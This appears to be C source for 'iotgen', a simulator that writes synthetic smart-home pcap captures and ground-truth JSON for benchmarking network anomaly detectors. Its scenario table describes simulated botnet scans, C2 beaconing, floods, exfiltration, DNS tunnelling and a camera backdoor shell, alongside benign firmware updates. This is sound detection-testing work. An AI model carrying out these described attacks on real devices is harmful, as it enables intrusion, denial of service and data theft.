	2600 * 1024, 3800 * 1024, 64 * 1024, 30 * MS, 150 * MS, 1000000, 3000000, 0.1,
	15 * SEC, 40 * SEC, 8 * SEC, 20 * SEC,
	"metrics-eu.netatmo.io", {HP_AWS, HC_NONE, 300, false, false, false, 0},
	10 * MIN, 200, 600, 1 * HOUR, 16 * HOUR,
};

/* The TV updates itself in standby at night: a 48 to 96 MB delta in
 * 8 MiB Range requests. */
static const struct fwspec fw_tv = {
	"otn.samsungcloudsolution.com", "fota-eu.samsungcdn.net", {HP_AKAMAI, HC_AKAMAI, 300, false, false, false, 0},
	48 * MIB, 96 * MIB, 8 * MIB, 5 * MS, 60 * MS, 40000000, 80000000, 0.2,
	90 * SEC, 240 * SEC, 40 * SEC, 90 * SEC,
	"dc-eu.samsungiotcloud.com", {HP_AWS, HC_ELB, 60, false, false, false, 0},
	15 * MIN, 1024, 4096, 19 * HOUR, 21 * HOUR,
};

/* Bytes a GET brings beyond what is asked: one push at a time keeps only
 * that many bytes' packets queued. */
#define FW_PUSH (4 * MIB)

static const struct fwspec *fw_of(const struct scn *s)
{
	const char *k = s->sc->dev;

	return !strcmp(k, "plug") ? &fw_plug : !strcmp(k, "camera") ? &fw_camera
	     : !strcmp(k, "thermostat") ? &fw_thermostat : &fw_tv;
}

/* One HTTPS exchange on a fresh connection, as home.c's devices make
 * them; *ok is false when the connection was refused. */
static uint64_t fw_https(struct scn *s, uint64_t t, const char *name, const struct hn_rspec *spec, size_t up,
			 size_t down, double fail_p, bool *ok)
{
	struct prng *r = &s->rng;
	struct hn_tls c;
	struct hn_tls_opts o = {.name = name, .spec = spec, .port = 443,
				.alpn = s->dev->tls13 ? "h2,http/1.1" : "http/1.1", .fail_p = fail_p};
	uint64_t think = span(r, 20 * MS, 200 * MS);

	t = hn_tls_open(s->net, s->dev, &c, t, &o);
	*ok = c.open;
	if (!c.open)
		return t;
	t = hn_tls_rr(&c, t, up, down, think);
	return hn_tls_close(&c, t + span(r, 10 * MS, 2 * SEC), TCPF_C, false);
}

static void fw_telemetry(struct sim *sim, void *arg)
{
	struct scn *s = arg;
	struct fwup *x = &s->u.fwup;
	struct prng *r = &s->rng;
	uint64_t now = sim_now(sim), t;
	/* The first report after the boot carries the device's inventory. */
	size_t up = x->reports ? span(r, x->f->rep_lo, x->f->rep_hi) : span(r, 3 * x->f->rep_hi, 6 * x->f->rep_hi);
	size_t down = span(r, 60, 400);
	bool ok;

	t = fw_https(s, now, x->f->telem, &x->f->telem_spec, up, down, 0.02, &ok);
	mark(s, t);
	if (!ok) { /* refused: tried again soon */
		sim_at(sim, t + span(r, 20 * SEC, 90 * SEC), fw_telemetry, s);
		return;
	}
	x->reports++;
	sim_at(sim, now + prng_jitter(r, x->f->every, 0.15), fw_telemetry, s);
}

/* Back up: the new version reported to the update check. */
static void fw_back(struct sim *sim, void *arg)
{
	struct scn *s = arg;
	struct prng *r = &s->rng;
	uint64_t now = sim_now(sim);
	size_t up = span(r, 450, 900), down = span(r, 200, 700);
	bool ok;

	mark(s, fw_https(s, now, s->u.fwup.f->check, NULL, up, down, 0, &ok));
	sim_at(sim, now + span(r, 20 * SEC, 150 * SEC), fw_telemetry, s);
}

static void fw_reboot(struct sim *sim, void *arg)
{
	struct scn *s = arg;
	const struct fwspec *f = s->u.fwup.f;
	uint64_t now = sim_now(sim), up = now + span(&s->rng, f->boot_lo, f->boot_hi);
	int err = home_reboot(s->home, s->dev, up);

	if (err) {
		sim_fail(sim, err);
		return;
	}
	mark(s, now);
	sim_at(sim, up + span(&s->rng, 3 * SEC, 15 * SEC), fw_back, s);
}

static void fw_get(struct sim *sim, void *arg);

/* One part of the image: a Range request and its answer, or the GET's
 * first part and its headers, or the next FW_PUSH bytes of its body. */
static void fw_part(struct sim *sim, void *arg)
{
	struct scn *s = arg;
	struct fwup *x = &s->u.fwup;
	const struct fwspec *f = x->f;
	struct prng *r = &s->rng;
	uint64_t t = sim_now(sim), left = x->size - x->got;
	uint64_t part = f->range ? f->range : FW_PUSH;
	size_t req = span(r, 280, 460), head = span(r, 320, 520);
	uint64_t think = span(r, 10 * MS, 80 * MS);
	bool breaks;

	if (part > left)
		part = left;
	breaks = x->break_at > x->got && x->break_at < x->got + part;
	if (breaks)
		part = x->break_at - x->got; /* the rest never comes */
	if (f->range || x->fresh)
		t = hn_tls_rr(&x->c, t, req, part + head, think);
	else
		t = hn_tls_push(&x->c, t, part);
	x->fresh = false;
	x->got += part;
	mark(s, t);
	if (breaks) {
		/* Nothing more arrives; the device gives up, resets, and asks for
		 * the rest on a new connection. */
		x->break_at = 0;
		t = hn_tls_close(&x->c, t + span(r, 8 * SEC, 30 * SEC), TCPF_C, true);
		mark(s, t);
		sim_at(sim, t + span(r, 1 * SEC, 4 * SEC), fw_get, s);
		return;
	}
	if (x->got < x->size) {
		sim_at(sim, t + (f->range ? span(r, f->gap_lo, f->gap_hi) : 0), fw_part, s);
		return;
	}
	t = hn_tls_close(&x->c, t + span(r, 50 * MS, 800 * MS), TCPF_C, false);
	mark(s, t);
	sim_at(sim, t + span(r, f->flash_lo, f->flash_hi), fw_reboot, s);
}

static void fw_get(struct sim *sim, void *arg)
{
	struct scn *s = arg;
	struct fwup *x = &s->u.fwup;
	struct hn_tls_opts o = {.name = x->f->cdn, .spec = &x->f->cdn_spec, .port = 443, .alpn = "http/1.1"};
	uint64_t t = hn_tls_open(s->net, s->dev, &x->c, sim_now(sim), &o);

	mark(s, t);
	if (!x->c.open) { /* the name did not resolve: later */
		sim_at(sim, t + span(&s->rng, 5 * SEC, 20 * SEC), fw_get, s);
		return;
	}
	x->c.tcp.e[TCPF_S].rate_bps = x->bps; /* the device reads as fast as it writes */
	x->fresh = true;
	sim_at(sim, t, fw_part, s);
}

/* The update check that finds the new version. */
static void fw_check(struct sim *sim, void *arg)
{
	struct scn *s = arg;
	struct prng *r = &s->rng;
	uint64_t now = sim_now(sim);
	size_t up = span(r, 350, 700), down = span(r, 900, 2400);
	bool ok;
	uint64_t t = fw_https(s, now, s->u.fwup.f->check, NULL, up, down, 0, &ok);

	mark(s, now);
	mark(s, t);
	sim_at(sim, t + span(r, 1 * SEC, 6 * SEC), fw_get, s);
}

static void plan_fw_update(struct scn *s)
{
	const struct fwspec *f = fw_of(s);

	s->at = on_last_day(s, f->at_lo, f->at_hi);
}

static void inject_fw_update(struct scn *s)
{
	struct fwup *x = &s->u.fwup;
	struct prng *r = &s->rng;

	x->f = fw_of(s);
	x->size = span(r, x->f->size_lo, x->f->size_hi);
	x->bps = (uint32_t)span(r, x->f->bps_lo, x->f->bps_hi);
	if (prng_chance(r, x->f->break_p))
		x->break_at = span(r, x->size / 10, x->size * 9 / 10);
	open_ended(s);
	sim_at(s->sim, s->at, fw_check, s);
}

/* ---- the table ------------------------------------------------------------------ */

static const struct scen scens[] = {
	{"telnet-scan", true, "camera", "scan",
	 "the camera, Mirai-like, SYN-scans internet and LAN addresses on 23/2323 and tries telnet logins",
	 plan_telnet_scan, inject_telnet_scan},
	{"c2-beacon", true, "plug", "unexpected_destination",
	 "the plug checks in every ~60 s with a never-seen host (DNS, then TLS)",
	 plan_c2_beacon, inject_c2_beacon},
	{"syn-flood", true, "tv", "flood",
	 "the TV sends thousands of SYNs a minute with random source ports to one target",
	 plan_flood, inject_syn_flood},
	{"udp-flood", true, "thermostat", "flood",
	 "the thermostat floods one target with 512-byte UDP datagrams to random ports",
	 plan_flood, inject_udp_flood},
	{"exfil", true, "camera", "volume_out",
	 "the camera uploads 200 MiB to a new host over HTTPS in a few minutes",
	 plan_exfil, inject_exfil},
	{"dns-tunnel", true, "hub", "dns_anomaly",
	 "the hub sends hundreds of queries a minute with long hex labels under one domain, many NXDOMAIN",
	 plan_dns_tunnel, inject_dns_tunnel},
	{"lateral", true, "plug", "new_lan_peer",
	 "the plug ARP-sweeps the LAN and connects to its hosts on 22/23/80/445",
	 plan_lateral, inject_lateral},
	{"new-service", true, "camera", "new_inbound_service",
	 "outside hosts reach a backdoor shell on the camera's port 8023, which answers",
	 plan_new_service, inject_new_service},
	{"silent", true, "thermostat", "heartbeat_missing",
	 "the thermostat stops sending anything for the rest of the capture",
	 plan_silent, inject_silent},
	{"cdn-rotation", false, "plug", NULL,
	 "the plug's cloud name (m2.tuyaeu.com) moves to new addresses",
	 plan_cdn_rotation, inject_cdn_rotation},
	{"phone-browsing", false, "phone", NULL,
	 "the phone visits a new site every few minutes all day",
	 plan_phone_browsing, inject_phone_browsing},
	{"new-device", false, NULL, "new_device",
	 "a robot vacuum joins (DHCP) and talks to its cloud (a notice, not an attack)",
	 plan_new_device, inject_new_device},
	{"dhcp-change", false, "camera", NULL,
	 "after a link flap the camera is refused its address (NAK) and leases a new one",
	 plan_dhcp_change, inject_dhcp_change},
	{"evening-peak", false, "tv", NULL,
	 "a movie night: the TV streams 2 to 3 times its usual evening",
	 plan_evening_peak, inject_open_ended},
	{"dst-shift", false, NULL, NULL,
	 "daylight saving starts: the household's routine moves one hour earlier in UTC",
	 plan_dst_shift, inject_open_ended},
	{"fw-update-plug", false, "plug", NULL,
	 "a firmware update: a 1-2 MB image from a new CDN host, a reboot, then a new telemetry host",
	 plan_fw_update, inject_fw_update},
	{"fw-update-camera", false, "camera", NULL,
	 "a firmware update: a 24-46 MB image from new object storage, a reboot, a new telemetry host",
	 plan_fw_update, inject_fw_update},
	{"fw-update-thermostat", false, "thermostat", NULL,
	 "a firmware update: a 3 MB image in 64 KiB ranges from a new CDN host, a reboot, new telemetry",
	 plan_fw_update, inject_fw_update},
	{"fw-update-tv", false, "tv", NULL,
	 "a firmware update in standby at night: 48-96 MB in 8 MiB ranges, a reboot, new telemetry",
	 plan_fw_update, inject_fw_update},
};

#define NSCENS (sizeof(scens) / sizeof(scens[0]))

/* ---- running one ---------------------------------------------------------------- */

static int inject(struct home *h, void *ctx)
{
	struct scn *s = ctx;

	s->home = h;
	s->net = home_net(h);
	s->sim = home_sim(h);
	if (s->sc->dev) {
		s->dev = home_device(h, s->sc->dev);
		if (!s->dev)
			return -EINVAL;
		memcpy(s->mac, s->dev->mac, 6);
		s->has_mac = true;
		s->dev_kind = s->dev->kind;
	}
	s->sc->inject(s);
	return 0;
}

static json_t *time_str(uint64_t us)
{
	char buf[32];

	cli_fmt_time(us, buf, sizeof(buf));
	return json_string(buf);
}

static json_t *truth_object(const struct scn *s)
{
	json_t *o = json_object();
	char mac[18];
	int bad = !o;

	snprintf(mac, sizeof(mac), "%02x:%02x:%02x:%02x:%02x:%02x", s->mac[0], s->mac[1], s->mac[2], s->mac[3],
		 s->mac[4], s->mac[5]);
	/* json_object_set_new takes ownership and fails on NULL: one check
	 * at the end covers every allocation. */
	bad |= json_object_set_new(o, "scenario", json_string(s->sc->name));
	bad |= json_object_set_new(o, "attack", json_boolean(s->sc->attack));
	bad |= json_object_set_new(o, "device", s->has_mac ? json_string(mac) : json_null());
	/* Whole seconds around the injected packets: start rounded down,
	 * end rounded up. */
	bad |= json_object_set_new(o, "start", time_str(s->t0));
	bad |= json_object_set_new(o, "end", time_str(s->t1 + SEC - 1));
	bad |= json_object_set_new(o, "kind", s->sc->kind ? json_string(s->sc->kind) : json_null());
	bad |= json_object_set_new(o, "device_kind", s->dev_kind ? json_string(s->dev_kind) : json_null());
	bad |= json_object_set_new(o, "what", json_string(s->sc->what));
	if (bad) {
		json_decref(o);
		return NULL;
	}
	return o;
}

static int write_truth(const struct scn *s, const char *path)
{
	json_t *o = truth_object(s);
	int bad = !o;

	bad |= json_object_set_new(o, "learn_for", json_string(SCN_LEARN_FOR));
	bad |= json_object_set_new(o, "seed", json_integer((json_int_t)s->seed));
	bad |= json_object_set_new(o, "days", json_integer((json_int_t)s->days));
	bad |= json_object_set_new(o, "capture_start", time_str(s->start));
	bad |= json_object_set_new(o, "capture_end", time_str(s->end));
	if (!bad)
		bad = json_dump_file(o, path, JSON_INDENT(2) | JSON_PRESERVE_ORDER) ? 1 : 0;
	json_decref(o);
	return bad ? -EIO : 0;
}

static void list(void)
{
	for (size_t i = 0; i < NSCENS; i++)
		printf("%-20s %-7s %-11s %-23s %s\n", scens[i].name, scens[i].attack ? "attack" : "benign",
		       scens[i].dev ? scens[i].dev : "-", scens[i].kind ? scens[i].kind : "-", scens[i].what);
}

static const char usage[] =
	"usage: iotgen scenario NAME --seed N [--days D] -o OUT.pcap --truth OUT.json\n"
	"       iotgen scenario --list\n"
	"  The smart home of `iotgen home` for D days (default 2, at least 2: a\n"
	"  detector learns on the first) from 06:00 UTC, with one behaviour from\n"
	"  one device injected on the last day at a time drawn from the seed: an\n"
	"  attack, or a benign surprise that should raise no alert (--list).\n"
	"  dst-shift: daylight saving starts at 01:00 UTC before its last day.\n"
	"  --truth  the ground truth as JSON: scenario, attack, device (MAC),\n"
	"           start, end (RFC 3339), kind (the alert expected, or null),\n"
	"           learn_for\n"
	"  The same arguments always give the same bytes.\n";

struct scn_args {
	uint64_t seed, days;
	const char *name, *out, *truth;
	bool list;
};

static int parse(int argc, char **argv, struct scn_args *a)
{
	static const struct option opts[] = {
		{"seed", required_argument, NULL, 's'},
		{"days", required_argument, NULL, 'd'},
		{"output", required_argument, NULL, 'o'},
		{"truth", required_argument, NULL, 't'},
		{"list", no_argument, NULL, 'l'},
		{"help", no_argument, NULL, 'h'},
		{NULL, 0, NULL, 0},
	};
	bool have_seed = false;
	int c;

	memset(a, 0, sizeof(*a));
	a->days = SCN_DEFAULT_DAYS;
	opterr = 0;
	optind = 1;
	while ((c = getopt_long(argc, argv, ":s:d:o:t:lh", opts, NULL)) != -1) {
		switch (c) {
		case 's':
			if (cli_u64(optarg, 0, UINT64_MAX, &a->seed))
				return cli_usage_error("scenario", "bad --seed '%s' (want an unsigned integer)", optarg);
			have_seed = true;
			break;
		case 'd':
			if (cli_u64(optarg, 2, SCN_MAX_DAYS, &a->days))
				return cli_usage_error("scenario", "bad --days '%s' (want 2..%d)", optarg, SCN_MAX_DAYS);
			break;
		case 'o':
			a->out = optarg;
			break;
		case 't':
			a->truth = optarg;
			break;
		case 'l':
			a->list = true;
			break;
		case 'h':
			fputs(usage, stdout);
			return CLI_OK;
		case ':':
			return cli_usage_error("scenario", "option '%s' needs a value", argv[optind - 1]);
		default:
			return cli_usage_error("scenario", "unknown option '%s' (see --help)", argv[optind - 1]);
		}
	}
	if (a->list) {
		list();
		return CLI_OK;
	}
	if (optind + 1 < argc)
		return cli_usage_error("scenario", "unexpected argument '%s'", argv[optind + 1]);
	if (optind == argc || !have_seed || !a->out || !a->truth)
		return cli_usage_error("scenario", "NAME, --seed, -o and --truth are required (see --help)");
	a->name = argv[optind];
	return -1;
}

int gen_scenario_main(int argc, char **argv)
{
	struct scn_args a;
	struct home_run run;
	struct scn *s;
	const struct scen *sc = NULL;
	int rc = parse(argc, argv, &a), err;

	if (rc >= 0)
		return rc;
	for (size_t i = 0; i < NSCENS; i++)
		if (!strcmp(scens[i].name, a.name))
			sc = &scens[i];
	if (!sc)
		return cli_usage_error("scenario", "unknown scenario '%s' (see --list)", a.name);
	s = calloc(1, sizeof(*s));
	if (!s)
		return cli_runtime_error("scenario", "out of memory");
	s->sc = sc;
	s->seed = a.seed;
	s->days = a.days;
	if (cli_rfc3339(SCN_START, &s->start)) {
		free(s);
		return cli_runtime_error("scenario", "bad built-in start");
	}
	s->last_day = s->start + (s->days - 1) * DAY;
	s->end = s->start + s->days * DAY;
	prng_seed(&s->rng, a.seed, prng_hash("scenario") ^ prng_hash(sc->name));
	sc->plan(s);
	run = (struct home_run){.cmd = "scenario", .seed = a.seed, .start_us = s->start,
				.duration_s = s->days * 86400, .out = a.out, .var = s->var, .inject = inject,
				.ctx = s};
	rc = home_generate(&run);
	if (rc == CLI_OK && !s->t0)
		rc = cli_runtime_error("scenario", "%s: the behaviour never happened", sc->name);
	if (rc == CLI_OK) {
		err = write_truth(s, a.truth);
		if (err)
			rc = cli_runtime_error("scenario", "writing %s: %s", a.truth, strerror(-err));
	}
	free(s);
	return rc;
}

/* ---- the demo: one short capture, several behaviours ------------------------------ */

#define DEMO_HOURS 3
#define DEMO_LEARN_FOR "2h"

/* What the demo's last hour holds, in order: a camera taken over through a
 * backdoor that then scans for telnet, a robot vacuum joining (benign), a
 * plug that beacons to its C2 and sweeps the LAN, a hub tunnelling DNS, and
 * the plug's firmware update (benign: rules/example.yaml allows it). The
 * update comes after the plug's attacks, since the example rules have a
 * device relearn after an update: replayed with them, the demo still shows
 * every attack. (The thermostat, which no attack uses, has learned too
 * little in two hours to alert on anything new.) */
static const struct {
	const char *scen;
	uint64_t at;     /* after the capture starts, plus up to a minute */
} demo_plan[] = {
	{"new-service", 2 * HOUR + 4 * MIN},
	{"telnet-scan", 2 * HOUR + 12 * MIN},
	{"new-device", 2 * HOUR + 18 * MIN},
	{"c2-beacon", 2 * HOUR + 24 * MIN},
	{"lateral", 2 * HOUR + 36 * MIN},
	{"dns-tunnel", 2 * HOUR + 44 * MIN},
	{"fw-update-plug", 2 * HOUR + 48 * MIN},
};

#define DEMO_N (sizeof(demo_plan) / sizeof(demo_plan[0]))

static int demo_inject(struct home *h, void *ctx)
{
	struct scn *s = ctx;
	int rc = 0;

	for (size_t i = 0; i < DEMO_N && !rc; i++)
		rc = inject(h, &s[i]);
	return rc;
}

static int write_demo_truth(const struct scn *s, uint64_t seed, const char *path)
{
	json_t *o = json_object(), *arr = json_array();
	int bad = !o || !arr;

	for (size_t i = 0; i < DEMO_N && !bad; i++)
		bad |= json_array_append_new(arr, truth_object(&s[i]));
	bad |= json_object_set_new(o, "learn_for", json_string(DEMO_LEARN_FOR));
	bad |= json_object_set_new(o, "seed", json_integer((json_int_t)seed));
	bad |= json_object_set_new(o, "capture_start", time_str(s[0].start));
	bad |= json_object_set_new(o, "capture_end", time_str(s[0].end));
	bad |= json_object_set_new(o, "behaviours", arr);
	if (!bad)
		bad = json_dump_file(o, path, JSON_INDENT(2) | JSON_PRESERVE_ORDER) ? 1 : 0;
	json_decref(o);
	return bad ? -EIO : 0;
}

static const char demo_usage[] =
	"usage: iotgen demo --seed N -o OUT.pcap [--truth OUT.json]\n"
	"  The smart home of `iotgen home` for 3 hours from 06:00 UTC: two\n"
	"  benign hours to learn on (replay with --learn-for " DEMO_LEARN_FOR "), then an hour\n"
	"  in which, a few minutes apart, outsiders open a backdoor on the camera,\n"
	"  which then scans for telnet; a robot vacuum joins (benign); the plug\n"
	"  beacons to a C2 host and sweeps the LAN; the hub tunnels data through\n"
	"  DNS; the plug updates its firmware (benign: a new CDN host, a\n"
	"  reboot, a new telemetry host). Each behaviour is that of `iotgen\n"
	"  scenario NAME`, cut to about a minute where it would last longer, to\n"
	"  keep the capture small.\n"
	"  --truth  the ground truth: learn_for and one object per behaviour, as\n"
	"           `iotgen scenario` writes them\n"
	"  The same arguments always give the same bytes.\n";

int gen_demo_main(int argc, char **argv)
{
	static const struct option opts[] = {
		{"seed", required_argument, NULL, 's'},
		{"output", required_argument, NULL, 'o'},
		{"truth", required_argument, NULL, 't'},
		{"help", no_argument, NULL, 'h'},
		{NULL, 0, NULL, 0},
	};
	const char *out = NULL, *truth = NULL;
	uint64_t seed = 0, start;
	bool have_seed = false;
	struct home_run run;
	struct scn *s;
	int c, rc, err;

	opterr = 0;
	optind = 1;
	while ((c = getopt_long(argc, argv, ":s:o:t:h", opts, NULL)) != -1) {
		switch (c) {
		case 's':
			if (cli_u64(optarg, 0, UINT64_MAX, &seed))
				return cli_usage_error("demo", "bad --seed '%s' (want an unsigned integer)", optarg);
			have_seed = true;
			break;
		case 'o':
			out = optarg;
			break;
		case 't':
			truth = optarg;
			break;
		case 'h':
			fputs(demo_usage, stdout);
			return CLI_OK;
		case ':':
			return cli_usage_error("demo", "option '%s' needs a value", argv[optind - 1]);
		default:
			return cli_usage_error("demo", "unknown option '%s' (see --help)", argv[optind - 1]);
		}
	}
	if (optind < argc)
		return cli_usage_error("demo", "unexpected argument '%s'", argv[optind]);
	if (!have_seed || !out)
		return cli_usage_error("demo", "--seed and -o are required (see --help)");
	if (cli_rfc3339(SCN_START, &start))
		return cli_runtime_error("demo", "bad built-in start");
	s = calloc(DEMO_N, sizeof(*s));
	if (!s)
		return cli_runtime_error("demo", "out of memory");
	for (size_t i = 0; i < DEMO_N; i++) {
		for (size_t j = 0; j < NSCENS; j++)
			if (!strcmp(scens[j].name, demo_plan[i].scen))
				s[i].sc = &scens[j];
		s[i].seed = seed;
		s[i].days = 1;
		s[i].start = start;
		s[i].last_day = start;
		s[i].end = start + DEMO_HOURS * HOUR;
		s[i].brief = true;
		prng_seed(&s[i].rng, seed, prng_hash("demo") ^ prng_hash(s[i].sc->name));
		s[i].at = start + demo_plan[i].at + span(&s[i].rng, 0, 59) * SEC;
	}
	run = (struct home_run){.cmd = "demo", .seed = seed, .start_us = start, .duration_s = DEMO_HOURS * 3600,
				.out = out, .inject = demo_inject, .ctx = s};
	rc = home_generate(&run);
	for (size_t i = 0; i < DEMO_N && rc == CLI_OK; i++)
		if (!s[i].t0)
			rc = cli_runtime_error("demo", "%s: the behaviour never happened", s[i].sc->name);
	if (rc == CLI_OK && truth) {
		err = write_demo_truth(s, seed, truth);
		if (err)
			rc = cli_runtime_error("demo", "writing %s: %s", truth, strerror(-err));
	}
	free(s);
	return rc;
}
